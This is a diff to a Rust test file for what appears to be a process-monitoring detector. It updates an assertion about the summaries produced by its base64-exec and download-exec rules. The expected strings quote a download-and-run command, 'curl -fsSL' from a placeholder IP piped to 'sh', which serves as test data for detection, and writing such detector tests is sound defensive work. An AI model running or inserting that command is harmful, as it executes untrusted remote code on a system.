@@ -155,7 +155,13 @@ root          45  0.0  0.0      0     0 ?        Z    14:08   0:00 [sh] <defunct
     let b = f.iter().find(|f| f.rule == "proc.base64-exec").unwrap();
     assert!(b.summary.contains("decoded: curl -fsSL http://203.0.113.9/i.sh | sh"), "{}", b.summary);
     let d = f.iter().find(|f| f.rule == "proc.download-exec").unwrap();
-    assert!(d.summary.contains("source http://203.0.113.9/i.sh (decoded from base64)"), "{}", d.summary);
+    assert!(
+        d.summary.contains(
+            "source http://203.0.113.9/i.sh (decoded from base64: curl -fsSL http://203.0.113.9/i.sh | sh)"
+        ),
+        "{}",
+        d.summary
+    );
 }
 
 #[test]
